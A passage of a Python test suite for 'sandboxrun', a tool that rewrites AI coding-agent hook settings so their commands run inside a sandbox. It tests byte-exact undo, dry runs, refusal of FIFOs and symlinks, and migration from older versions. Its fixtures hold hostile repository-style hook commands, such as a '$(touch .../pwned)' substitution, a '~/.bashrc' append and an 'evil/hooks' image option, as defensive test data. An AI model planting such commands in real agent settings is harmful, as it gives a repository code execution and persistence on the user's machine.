"""`sandboxrun install` / `uninstall` without an engine: the rewriting of settings files,
the Cline shims, byte-exact undo, dry runs, refusals, interruptions, and the answers of
`run --answer agent`."""

from __future__ import annotations

import json
import os
import shlex
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from loguru import logger

import sandboxrun._cli as cli
from sandboxrun import CombinedResult, HookOutcome, HookSpec
from sandboxrun._dialects.claude.dialect import CLAUDE
from sandboxrun._dialects.claude.wrapped import wrap
from sandboxrun._dialects.cline import CLINE, HOOK_NAMES
from sandboxrun._dialects.installed import read_shim as _read_shim
from sandboxrun._install import claude as _claude_install
from sandboxrun._install import cline as _cline_install
from sandboxrun._install import command as _command
from sandboxrun._install import files as _files
from sandboxrun._install import jsonspan
from sandboxrun._install import launcher as _launcher
from sandboxrun._install.cline import shim_text
from sandboxrun._install.record import Record
from sandboxrun._runner import reply as _answer
from sandboxrun._wrapped import value_key

SETTINGS = """{
\t"env": {"KEEP": "é and \\u00e9"},
\t"hooks": {
\t\t"PreToolUse": [
\t\t\t{"matcher": "Bash", "hooks": [
\t\t\t\t{"type": "command", "command": "./hooks/guard.sh | tee -a /tmp/log 2>&1", "timeout": 30},
\t\t\t\t{"type": "command", "command": "python3", "args": ["hooks/g.py", "a b", "$HOME"]},
\t\t\t\t{"type": "http", "url": "http://example.invalid"}
\t\t\t]}
\t\t],
\t\t"Stop": [{"hooks": [{"type": "command", "command": "echo \\"done\\"", "shell": "bash"}]}],
\t\t"SessionStart": [{"hooks": [{"type": "command", "command": "x.ps1", "shell": "powershell"}]}]
\t},
\t"permissions": {"allow": ["Bash(ls)"]}
}\r\n"""


@pytest.fixture(autouse=True)
def _restore_library_logging() -> Iterator[None]:
    yield
    logger.remove()
    logger.disable("sandboxrun")


@pytest.fixture
def project(tmp_path: Path, home: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".git").mkdir()
    settings = root / ".claude" / "settings.json"
    settings.write_bytes(SETTINGS.encode())
    settings.chmod(0o640)
    return root


def sandboxrun(*args: str) -> int:
    return cli.main(list(args))


SR = os.path.join(os.path.dirname(sys.executable), "sandboxrun")  # this venv's script
HOOK = os.path.join(os.path.dirname(sys.executable), "sandboxrun-hook")  # what hooks start


def launcher(home: Path | None = None) -> list[str]:
    """What install writes to start this sandboxrun: PYTHON -I SCRIPT (the system's
    files), or, in the files of the user with this `home`, the launcher file."""
    return _command.launcher(None if home is None else str(home))


def read_shim(path: object, home: Path) -> Any:
    """The shim install (its record in `home`) wrote at `path`, else None."""
    return _read_shim(str(path), Record(str(home)))


@pytest.fixture
def movable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of sandboxrun's script that install uses (and a test may remove, as a
    user who moves or uninstalls sandboxrun does)."""
    script = tmp_path / "opt" / "bin" / "sandboxrun"
    script.parent.mkdir(parents=True)
    script.write_bytes(Path(SR).read_bytes())
    script.chmod(0o755)
    monkeypatch.setattr(_command, "executable", lambda: str(script))
    return script


def snapshot(root: Path) -> dict[str, tuple[int, bytes | None]]:
    """Every path below `root`: its mode and, for files, its bytes."""
    out: dict[str, tuple[int, bytes | None]] = {}
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            path = Path(folder) / name
            st = path.lstat()
            data = path.read_bytes() if stat.S_ISREG(st.st_mode) else None
            out[str(path.relative_to(root))] = (st.st_mode, data)
    return out


# -- the JSON walker -------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [SETTINGS, '{"a":[1,[],{},[[2]],"x\\"y",-1.5e3,true,false,null]}', "[]", ' "s" ', "7"],
)
def test_spans_locate_every_value(text: str) -> None:
    """Each span holds exactly the JSON of the value at its path."""
    data = json.loads(text)
    found = jsonspan.spans(text)
    for path, (start, end) in found.items():
        value: Any = data
        for key in path:
            value = value[key]
        assert json.loads(text[start:end]) == value, path
    assert () in found


def test_replace_values_changes_only_those_bytes() -> None:
    text = '{ "a" : "x",\n  "b": [1, 2] }'
    out = jsonspan.replace_values(text, [(("a",), "é"), (("b",), ["q"])])
    assert out == '{ "a" : "\\u00e9",\n  "b": ["q"] }'  # ASCII text stays ASCII


# -- the wrapper ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args", "shell"),
    [
        ("./hooks/guard.sh | tee -a /tmp/log 2>&1", None, None),
        ('python3 "${CLAUDE_PLUGIN_ROOT}/hooks/x.py" < /dev/null', None, None),
        ("echo 'it''s' $((1+2))", None, "bash"),
        ("python3", ["hooks/g.py", "a b", "$HOME"], None),
        ("/opt/my tool", [], None),
    ],
)
def test_the_wrapper_hands_the_whole_command_to_exec(
    command: str, args: list[str] | None, shell: str | None
) -> None:
    """The agent's shell runs nothing of the original: a shell string is ONE argument
    after `--` (the sandbox's shell's); an `args` handler keeps its argv, no shell."""
    launch = ["/x/bin/python3", "-I", "/x/bin/sandboxrun"]
    new_command, new_args = wrap(launch, "claude", command, args, shell, ["--untrusted"])
    head = ["exec", "--agent", "claude", "--untrusted", "--"]
    if args is None:
        tail = ["bash", "-c", command] if shell == "bash" else [command]
        assert shlex.split(new_command) == [*launch, *head, *tail]
    else:
        tail = [command, *args] if args else [shlex.quote(command)]
        assert [new_command, *(new_args or [])] == [*launch, *head, *tail]


# -- Claude family: settings files ---------------------------------------------------------


def test_install_wraps_every_command_hook_and_keeps_the_rest(project, home, capsys) -> None:
    path = project / ".claude" / "settings.json"
    assert sandboxrun("install", "--agent", "claude", "--workspace", str(project),
                      "--home", str(home)) == 0  # fmt: skip
    text = path.read_bytes().decode()
    data = json.loads(text)
    pre = data["hooks"]["PreToolUse"][0]["hooks"]
    py, flag, sr = launcher()
    assert (flag, sr) == ("-I", HOOK) and os.path.isabs(py)  # Python isolated from the agent's env
    [hook] = launcher(home)  # one short path in the user's data folder, which starts them
    assert hook == str(home / ".local" / "share" / "sandboxrun" / "hook")
    assert _launcher.target(hook) == [py, sr] and os.stat(hook).st_mode & 0o777 == 0o755
    assert shlex.split(pre[0]["command"]) == [
        hook, "exec", "--agent", "claude", "--untrusted", "--timeout", "25", "--",
        "./hooks/guard.sh | tee -a /tmp/log 2>&1",
    ]  # fmt: skip
    assert pre[1]["command"] == hook
    assert pre[1]["args"] == ["exec", "--agent", "claude", "--untrusted", "--",
                              "python3", "hooks/g.py", "a b", "$HOME"]  # fmt: skip
    assert pre[2] == {"type": "http", "url": "http://example.invalid"}
    stop = data["hooks"]["Stop"][0]["hooks"][0]
    assert shlex.split(stop["command"])[-3:] == ["bash", "-c", 'echo "done"']
    assert data["hooks"]["SessionStart"][0]["hooks"][0]["command"] == "x.ps1"  # not run anyway
    # Formatting: the same lines, tabs, CRLF at the end, escapes; only the commands differ.
    old, new = SETTINGS.split("\n"), text.split("\n")
    assert len(old) == len(new)
    changed = [i for i, (a, b) in enumerate(zip(old, new, strict=True)) if a != b]
    assert [old[i].strip()[:40] for i in changed] == [
        '{"type": "command", "command": "./hooks/',
        '{"type": "command", "command": "python3"',
        '"Stop": [{"hooks": [{"type": "command", ',
    ]
    assert '"KEEP": "é and \\u00e9"' in text and text.endswith("}\r\n")
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert "3 hook command(s) run through sandboxrun exec" in capsys.readouterr().out


def test_install_twice_changes_nothing_and_uninstall_restores_bytes(project, home) -> None:
    path = project / ".claude" / "settings.json"
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    assert sandboxrun("install", *args) == 0
    once = path.read_bytes()
    assert sandboxrun("install", *args) == 0
    assert path.read_bytes() == once
    assert sandboxrun("uninstall", *args) == 0
    assert path.read_bytes() == SETTINGS.encode()
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert list((home / ".local/share/sandboxrun/install").iterdir()) == []


def test_discovery_runs_the_original_of_a_wrapped_command(project, home) -> None:
    """`run` and `list` see the hook the wrapper runs (there is no sandboxrun inside)."""
    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
    assert [h.argv for h in found] == [
        ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1"),
        ("python3", "hooks/g.py", "a b", "$HOME"),
    ]


def test_dry_run_prints_a_diff_and_changes_nothing(project, home, capsys) -> None:
    path = project / ".claude" / "settings.json"
    assert sandboxrun("install", "--agent", "claude", "--workspace", str(project),
                      "--home", str(home), "--dry-run") == 0  # fmt: skip
    out = capsys.readouterr().out
    assert out.startswith(f"--- {path}\n+++ {path}\n@@ ")
    assert '-\t\t\t\t{"type": "command", "command": "./hooks/guard.sh' in out
    assert out.count("\n+\t") == 3 and out.rstrip().endswith("(dry run: nothing changed)")
    assert path.read_bytes() == SETTINGS.encode()
    assert not (home / ".local/share/sandboxrun/install").exists()


def test_an_unparsable_file_is_refused_naming_it(project, home, capsys) -> None:
    local = project / ".claude" / "settings.local.json"
    local.write_text('{"hooks": {')
    assert sandboxrun("install", "--agent", "claude", "--workspace", str(project),
                      "--home", str(home)) == 2  # fmt: skip
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and str(local) in err and "not valid JSON" in err
    # Refused before anything was written: the valid file is unchanged too.
    assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()


def test_a_fifo_or_a_link_out_of_the_project_is_refused(project, home, capsys) -> None:
    """A repository cannot make install hang on a FIFO, nor rewrite a file elsewhere
    (here: the user's own settings) through a symlink."""
    local = project / ".claude" / "settings.local.json"
    os.mkfifo(local)
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    assert sandboxrun("install", *args) == 2
    assert f"{local}: not a regular file; not changed" in capsys.readouterr().err
    local.unlink()
    user = home / ".claude" / "settings.json"
    user.parent.mkdir()
    user.write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"}]}]}}')
    local.symlink_to(user)
    assert sandboxrun("install", *args) == 2
    assert "outside the project; not changed" in capsys.readouterr().err
    assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()


def test_an_interrupted_install_loses_nothing(project, home, monkeypatch) -> None:
    """A failure between the backup and the rename leaves the file whole; installing
    again, then uninstalling, gives the original back."""
    path = project / ".claude" / "settings.json"
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    real = os.replace

    def crash(src: str, dst: str) -> None:
        if dst == str(path):
            raise OSError(28, "No space left on device")
        real(src, dst)

    monkeypatch.setattr(_files.os, "replace", crash)
    assert sandboxrun("install", *args) == 2
    assert path.read_bytes() == SETTINGS.encode()
    assert [p.name for p in project.joinpath(".claude").iterdir()] == ["settings.json"]  # no temp
    monkeypatch.setattr(_files.os, "replace", real)
    assert sandboxrun("install", *args) == 0
    assert sandboxrun("uninstall", *args) == 0
    assert path.read_bytes() == SETTINGS.encode()


def test_a_pulled_hook_is_named_and_a_second_install_wraps_it(project, home, capsys) -> None:
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    sandboxrun("install", *args)
    local = project / ".claude" / "settings.local.json"
    pulled = '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "./new.sh"}]}]}}'
    local.write_text(pulled)
    capsys.readouterr()
    assert sandboxrun("list", "--agent", "claude", "--workspace", str(project),
                      "--home", str(home)) == 0  # fmt: skip
    out = capsys.readouterr().out
    assert f"not wrapped: {local} hooks.PreToolUse[0].hooks[0]: './new.sh' runs unsandboxed" in out
    assert sandboxrun("install", *args) == 0
    assert "./new.sh" in local.read_text() and f"{launcher(home)[0]} exec" in local.read_text()
    capsys.readouterr()
    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    assert "not wrapped" not in capsys.readouterr().out
    assert sandboxrun("uninstall", *args) == 0
    assert local.read_text() == pulled
    assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()


def test_a_wrapper_whose_sandboxrun_lies_in_the_workspace_is_named(
    project, home, monkeypatch, capsys
) -> None:
    """A sandboxrun installed inside the project (its own `.venv`) is one a repository
    can replace: `list` names each wrapper that starts it."""
    inside = project / ".venv" / "bin" / "sandboxrun"
    inside.parent.mkdir(parents=True)
    inside.write_bytes(Path(SR).read_bytes())
    monkeypatch.setattr(_command, "executable", lambda: str(inside))
    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    capsys.readouterr()
    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    out = capsys.readouterr().out
    assert out.count(f"runs {str(inside)!r} from the workspace or PATH") == 3


def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, movable, capsys) -> None:
    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    movable.unlink()
    capsys.readouterr()
    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    out = capsys.readouterr().out
    assert out.count(f"runs {str(movable)!r}, which is missing") == 3


def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home, movable) -> None:
    """Moved or uninstalled, sandboxrun would leave exit 127, which the agent reads as a
    non-blocking error; a fail-closed wrapper blocks instead (exit 2, the reason)."""
    path = project / ".claude" / "settings.json"
    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home),
               "--fail-closed")  # fmt: skip
    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
    assert found[0].argv == ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1")
    movable.unlink()
    command = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    done = subprocess.run(["sh", "-c", command], capture_output=True, cwd=project, check=False)
    assert (done.returncode, done.stdout) == (2, b"")
    gone = f"{launcher(home)[0]} finds no sandboxrun (moved or uninstalled?)"
    why = f"sandboxrun (fail-closed): {gone}"
    assert done.stderr == f"{why}\n".encode()


# -- what counts as installed: install's record, byte for byte ------------------------------

# Commands a repository ships shaped like install's wrappers (SR: the real sandboxrun).
# The first three have an earlier sandboxrun's shape (`OLD_SHAPED`: the one argument
# shlex finds after `--`): install migrates them, the rest it wraps whole.
OLD_SHAPED = {
    f'{SR} exec --agent claude -- "$(touch ${{CLAUDE_PROJECT_DIR}}/../pwned)"':
        "$(touch ${CLAUDE_PROJECT_DIR}/../pwned)",
    f"{SR} exec -- 'x'>>~/.bashrc": "x>>~/.bashrc",
    f"{SR} exec --config /proc/self/cwd/.claude/x.toml -- ./x.sh": "./x.sh",
}  # fmt: skip
LOOK_ALIKES = [
    *OLD_SHAPED,
    f"{SR} exec --network bridge -- 'curl x'",
    f"{SR} exec --image evil/hooks -- ./x.sh",
    f"{SR} exec --runtime runc -- ./x.sh",
    f"{SR} exec --hooks-dir / -- ./x.sh",
    f"{shlex.quote(sys.executable)} -I {SR} exec --agent claude --untrusted -- './x.sh'",
]


def claude_list(project: Path, home: Path, capsys: Any) -> str:
    capsys.readouterr()
    assert sandboxrun("list", "--agent", "claude", "--workspace", str(project),
                      "--home", str(home)) == 0  # fmt: skip
    return str(capsys.readouterr().out)


def one_hook(path: Path, command: str) -> None:
    hook = {"type": "command", "command": command}
    path.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [hook]}]}}) + "\n")


def first_command(path: Path) -> str:
    return str(json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"])


@pytest.mark.parametrize("command", LOOK_ALIKES)
def test_a_look_alike_wrapper_is_a_hook(project, home, capsys, command: str) -> None:
    """Only what install wrote counts as wrapped: a repository's command shaped like a
    wrapper is named unsandboxed, and install wraps it whole, or, if it has an earlier
    sandboxrun's shape, wraps the one argument it hands to exec (migrated): either way
    the agent's shell runs nothing of it (the command is exactly `shlex.join` of its
    words: `$(...)` and `>>` are the sandbox's), `run` runs it in the sandbox, and
    uninstall gives it back."""
    local = project / ".claude" / "settings.local.json"
    one_hook(local, command)
    before = local.read_bytes()
    out = claude_list(project, home, capsys)
    assert f"not wrapped: {local} hooks.PreToolUse[0].hooks[0]: " in out
    old = command in OLD_SHAPED
    assert ("written by an earlier sandboxrun?" if old else "install did not write it") in out
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    assert sandboxrun("install", *args) == 0
    out = capsys.readouterr().out
    assert ("migrated from an earlier sandboxrun" in out) is old
    assert ("named sandboxrun but are no wrapper install wrote here" in out) is not old
    inner = OLD_SHAPED.get(command, command)
    installed = first_command(local)
    wrapped = shlex.split(installed)
    assert wrapped == [*launcher(home), "exec", "--agent", "claude", "--untrusted", "--", inner]
    assert installed == shlex.join(wrapped)  # the host's shell only starts the launcher
    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
    assert ("/bin/sh", "-c", inner) in [h.argv for h in found]
    assert "not wrapped" not in claude_list(project, home, capsys)
    assert sandboxrun("uninstall", *args) == 0
    assert local.read_bytes() == before


def test_a_recorded_wrapper_counts_only_byte_for_byte(project, home, capsys) -> None:
    path = project / ".claude" / "settings.json"
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    sandboxrun("install", *args)
    assert "not wrapped" not in claude_list(project, home, capsys)
    command = first_command(path)
    changed = command.replace("--timeout 25", "--timeout 25 ")  # one byte more
    path.write_text(path.read_text().replace(json.dumps(command), json.dumps(changed)))
    out = claude_list(project, home, capsys)
    assert out.count("not wrapped") == 1 and "install did not write it" in out
    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
    assert found[0].argv == ("/bin/sh", "-c", changed)  # as written: not unwrapped
    assert sandboxrun("install", *args) == 0
    assert shlex.split(first_command(path))[-1] == changed  # wrapped whole, in turn


def test_a_record_of_one_workspace_does_not_vouch_for_another(project, home, capsys) -> None:
    """A repository can copy the wrappers of a project of yours it can read: in its own
    file they are its commands (the record is per file), so they are hooks there."""
    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
    other = project.parent / "other"
    (other / ".claude").mkdir(parents=True)
    (other / ".git").mkdir()
    copied = other / ".claude" / "settings.json"
    copied.write_bytes((project / ".claude" / "settings.json").read_bytes())
    out = claude_list(other, home, capsys)
    assert out.count(f"not wrapped: {copied}") == 3
    found = CLAUDE.discover("PreToolUse", [str(other)], str(home)).hooks
    assert shlex.split(found[0].argv[2])[:1] == launcher(home)  # run as written, not unwrapped
    assert sandboxrun("install", "--agent", "claude", "--workspace", str(other),
                      "--home", str(home)) == 0  # fmt: skip
    assert shlex.split(first_command(copied))[-1].startswith(shlex.quote(launcher(home)[0]))


def test_a_project_wrapper_without_untrusted_is_not_trusted(project, home, capsys) -> None:
    """install writes `--untrusted` into every wrapper of a project or local file; one
    without it there (a copy of a wrapper of your own settings) is not trusted, even
    recorded."""
    local = project / ".claude" / "settings.local.json"
    command, _ = wrap(launcher(), "claude", "./x.sh", None, None)
    one_hook(local, command)
    Record(str(home)).add(str(local), {value_key(command, None, None):
                                       {"command": "./x.sh", "args": None}})  # fmt: skip
    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
    assert ("/bin/sh", "-c", command) in [h.argv for h in found]
    assert f"not wrapped: {local}" in claude_list(project, home, capsys)


def test_uninstall_keeps_your_own_wrapper(project, home, capsys) -> None:
    """A `sandboxrun exec` you wrote yourself is no wrapper of install's: uninstall gives
    it back as it was, whether the file changed since install or not, and says
    "byte for byte" only when it was."""
    path = project / ".claude" / "settings.json"
    own = json.dumps({"type": "command", "command": f"{SR} exec -- ./mine.sh"})
    original = SETTINGS.replace('"bash"}]}]', f'"bash"}}, {own}]}}]').encode()
    assert original != SETTINGS.encode()
    path.write_bytes(original)
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    for changed in (False, True):
        assert sandboxrun("install", *args) == 0
        if changed:  # a pull edits another key
            path.write_bytes(path.read_bytes().replace(b'"Bash(ls)"', b'"Bash(pwd)"'))
        capsys.readouterr()
        assert sandboxrun("uninstall", *args) == 0
        out = capsys.readouterr().out
        expected = original.replace(b'"Bash(ls)"', b'"Bash(pwd)"') if changed else original
        assert path.read_bytes() == expected
        assert ("byte for byte" in out) is not changed
        if changed:
            # The own wrapper was migrated (its ./mine.sh in a new wrapper) and is given
            # back as it was, not counted among those taken off.
            assert "changed since install: 3 wrapper(s) install wrote taken off" in out
            assert "1 command(s) naming sandboxrun kept: install did not write them" in out
        path.write_bytes(original)


def test_reinstall_after_a_pull_is_undone_without_claiming_byte_for_byte(
    project, home, capsys
) -> None:
    path = project / ".claude" / "settings.json"
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    sandboxrun("install", *args)

    def pull(text: str) -> str:  # edits a key and brings a hook
        new = '"bash"}, {"type": "command", "command": "./pulled.sh"}]}]'
        return text.replace('"Bash(ls)"', '"Bash(pwd)"').replace('"bash"}]}]', new)

    path.write_bytes(pull(path.read_bytes().decode()).encode())
    sandboxrun("install", *args)  # the pull is in the backup now: rebuilt, not as it was
    capsys.readouterr()
    assert sandboxrun("uninstall", *args) == 0
    out = capsys.readouterr().out
    assert "byte for byte" not in out and "rebuilt" in out
    assert path.read_bytes().decode() == pull(SETTINGS)


def test_a_file_changed_since_install_is_unwrapped_in_place(project, home, capsys) -> None:
    path = project / ".claude" / "settings.json"
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    sandboxrun("install", *args)
    path.write_text(path.read_bytes().decode().replace('"Bash(ls)"', '"Bash(pwd)"'))
    assert sandboxrun("uninstall", *args) == 0
    assert "changed since install" in capsys.readouterr().out
    assert path.read_bytes().decode() == SETTINGS.replace('"Bash(ls)"', '"Bash(pwd)"')


# -- an earlier sandboxrun's install (before the record): migrated ---------------------------


def old_wrap(
    command: str, args: list[str] | None, shell: object, options: list[str]
) -> tuple[str, list[str] | None]:  # fmt: skip
    """What the earlier install (35cbcc0) wrote around a handler: `SR exec --agent
    claude [options] -- ORIGINAL` (a copy of its `wrap`, as the fixture of its bytes)."""
    head = ["exec", "--agent", "claude", *options, "--"]
    if args is not None:
        return SR, [*head, *([shlex.quote(command)] if not args else [command, *args])]
    tail = ["bash", "-c", command] if shell == "bash" else [command]
    why = shlex.quote(f"sandboxrun (fail-closed): {SR} is missing")
    guard = f"[ -x {shlex.quote(SR)} ] || {{ echo {why} >&2; exit 2; }}; "
    return (guard if "--fail-closed" in options else "") + shlex.join([SR, *head, *tail]), None


def old_install(path: Path, home: Path, options: list[str]) -> bytes:
    """Leave `path` as the earlier install did: every handler (PowerShell's aside) in
    its old wrapper, and its backup in the earlier store format (no record)."""
    original = path.read_bytes()

    def each(hook: dict[str, Any]) -> tuple[str, list[str] | None] | None:
        if hook.get("shell") == "powershell":
            return None
        timeout = ["--timeout", "25"] if hook.get("timeout") == 30 else []
        return old_wrap(hook["command"], hook.get("args"), hook.get("shell"), options + timeout)

    installed = _claude_install.rewrite(str(path), original, each)
    path.write_bytes(installed)
    store = home / ".local/share/sandboxrun/install"
    store.mkdir(parents=True, exist_ok=True)
    key = _files.sha256(os.path.realpath(path).encode())[:24]
    (store / f"{key}.orig").write_bytes(original)
    meta = {"path": os.path.realpath(path), "existed": True,
            "mode": stat.S_IMODE(path.stat().st_mode), "installed": _files.sha256(installed)}  # fmt: skip
    (store / f"{key}.json").write_text(json.dumps(meta))
    return installed


@pytest.mark.parametrize("options", [[], ["--fail-closed", "--config", "/etc/sr.toml"]])
@pytest.mark.parametrize("scope", ["project", "user"])
def test_an_earlier_install_is_migrated(project, home, tmp_path, capsys, scope, options) -> None:
    """Installed by an earlier sandboxrun (old wrappers, an old backup, no record),
    install again: each old wrapper's original gets the wrapper a fresh install writes
    (this install's options, never the old `--config`), the guard runs its original,
    `list` is quiet, and uninstall gives back the file from before the first install."""
    fresh_home = tmp_path / "fresh-home"
    if scope == "project":
        path = fresh_path = project / ".claude" / "settings.json"
        args = ["--agent", "claude", "--workspace", str(project)]
    else:
        path, fresh_path = home / ".claude/settings.json", fresh_home / ".claude/settings.json"
        for each in (path, fresh_path):
            each.parent.mkdir(parents=True)
            each.write_bytes(SETTINGS.encode())
        args = ["--agent", "claude", "--user"]
    # What a fresh install writes, for comparison (another home: another record).
    assert sandboxrun("install", *args, "--home", str(fresh_home)) == 0
    # the same but for the launcher's path: it is in the home's data folder
    fresh = fresh_path.read_bytes().replace(*(launcher(h)[0].encode() for h in (fresh_home, home)))
    path.write_bytes(SETTINGS.encode())
    old = old_install(path, home, options)
    out = claude_list(project, home, capsys)
    assert out.count("written by an earlier sandboxrun?") == 3
    capsys.readouterr()
    assert sandboxrun("install", *args, "--home", str(home)) == 0
    assert "3 of them migrated from an earlier sandboxrun's wrapper" in capsys.readouterr().out
    assert path.read_bytes() == fresh
    assert "/etc/sr.toml" not in path.read_text()
    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
    assert found[0].argv == ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1")
    assert found[1].argv == ("python3", "hooks/g.py", "a b", "$HOME")
    assert "not wrapped" not in claude_list(project, home, capsys)
    assert sandboxrun("install", *args, "--home", str(home)) == 0  # again: no change
    assert path.read_bytes() == fresh
    assert sandboxrun("uninstall", *args, "--home", str(home)) == 0
    assert "restored byte for byte" in capsys.readouterr().out
    assert path.read_bytes() == SETTINGS.encode() != old


def test_uninstall_of_an_earlier_install(project, home, capsys) -> None:
    """Uninstall, never installed again since an earlier sandboxrun: the old backup if
    the file is as that install left it; after a pull, only the wrappers it wrote come
    off, a repository's look-alike and the user's own `sandboxrun exec` stay."""
    path = project / ".claude" / "settings.json"
    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
    old_install(path, home, ["--fail-closed"])
    assert sandboxrun("uninstall", *args) == 0
    assert "restored byte for byte" in capsys.readouterr().out
    assert path.read_bytes() == SETTINGS.encode()
    kept = [f"{SR} exec -- ./mine.sh", next(iter(OLD_SHAPED))]
    extra = "".join(", " + json.dumps({"type": "command", "command": c}) for c in kept)

    def pull(text: str) -> str:
        return text.replace('"Bash(ls)"', '"Bash(pwd)"').replace(
            '"bash"}]}]', f'"bash"}}{extra}]}}]'
        )

    old_install(path, home, [])
    path.write_bytes(pull(path.read_bytes().decode()).encode())  # after the earlier install
    capsys.readouterr()
    assert sandboxrun("uninstall", *args) == 0
    out = capsys.readouterr().out
    assert "3 wrapper(s) install wrote taken off in place (3 written by an earlier" in out
    assert "2 command(s) naming sandboxrun kept" in out
    assert path.read_bytes() == pull(SETTINGS).encode()


def test_user_settings(home, tmp_path) -> None:
    user = home / ".claude" / "settings.json"
    user.parent.mkdir()
    user.write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"}]}]}}\n')
    assert sandboxrun("install", "--agent", "claude", "--user", "--home", str(home)) == 0
    assert "exec --agent claude -- a" in user.read_text()
    assert sandboxrun("uninstall", "--agent", "claude", "--user", "--home", str(home)) == 0
    assert user.read_text().endswith('"a"}]}]}}\n')


def test_managed_settings_forward_every_event(home, tmp_path) -> None:
    managed = tmp_path / "etc" / "managed-settings.json"
    managed.parent.mkdir()
    managed.write_text('{\n    "model": "x",\n    "hooks": {"Stop": []}\n}\n')
    before = managed.read_bytes()
    args = ["--agent", "claude", "--managed-file", str(managed), "--home", str(home)]
    assert sandboxrun("install", *args, "--fail-closed") == 0
    data = json.loads(managed.read_text())
    assert data["allowManagedHooksOnly"] is True and data["model"] == "x"
    assert set(data["hooks"]) == set(CLAUDE.hook_names)
    command = data["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    assert command.startswith("[ -x ")  # fail-closed: a missing sandboxrun blocks
    assert shlex.split(command.partition("exit 2; }; ")[2])[3:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
                                        "agent", "--fail-closed", "--home", str(home)]  # fmt: skip
    assert managed.read_text().startswith('{\n    "model"')  # its indentation
    once = managed.read_bytes()
    assert sandboxrun("install", *args, "--fail-closed") == 0
    assert managed.read_bytes() == once
    assert sandboxrun("uninstall", *args) == 0
    assert managed.read_bytes() == before


def test_managed_install_replaces_an_older_forwarder(home, tmp_path) -> None:
    """An earlier version's `sandboxrun run` forwarder (its Python not isolated) gives
    way to the `PYTHON -I SCRIPT run` one: never two forwarders for one event."""
    managed = tmp_path / "managed-settings.json"
    old = f"{SR} run PreToolUse --agent claude --answer agent"
    hook = {"type": "command", "command": old}
    managed.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [hook]}]}}))
    args = ["--agent", "claude", "--managed-file", str(managed), "--home", str(home)]
    assert sandboxrun("install", *args) == 0
    entries = json.loads(managed.read_text())["hooks"]["PreToolUse"]
    assert len(entries) == 1
    assert shlex.split(entries[0]["hooks"][0]["command"])[:4] == [*launcher(), "run"]


def test_managed_is_refused_for_other_agents(home, capsys) -> None:
    assert sandboxrun("install", "--agent", "qoder", "--managed", "--home", str(home)) == 2
    assert "qoder documents no managed settings" in capsys.readouterr().err
    assert sandboxrun("install", "--agent", "cline", "--managed", "--home", str(home)) == 2


# -- Cline family: shims ------------------------------------------------------------------


@pytest.fixture
def cline_ws(tmp_path: Path, make_hook: Any) -> Path:
    root = tmp_path / "cws"
    make_hook(root / ".clinerules/hooks", "PreToolUse", mode=0o750)
    make_hook(root / ".clinerules/hooks", "TaskStart", mode=0o644)  # disabled in VS Code only
    (root / ".clinerules/hooks/lib.sh").write_text("helper\n")
    make_hook(root / ".cline/hooks", "PostToolUse.py", mode=0o600, body="print('{}')\n")
    os.chmod(root / ".clinerules/hooks", 0o711)
    return root


def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> None:
    before = snapshot(cline_ws)
    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
    assert sandboxrun("install", *args) == 0
    legacy, sdk = cline_ws / ".clinerules/hooks", cline_ws / ".cline/hooks"
    # TaskStart (no exec bit): disabled for the VS Code extension, run by the SDK/CLI.
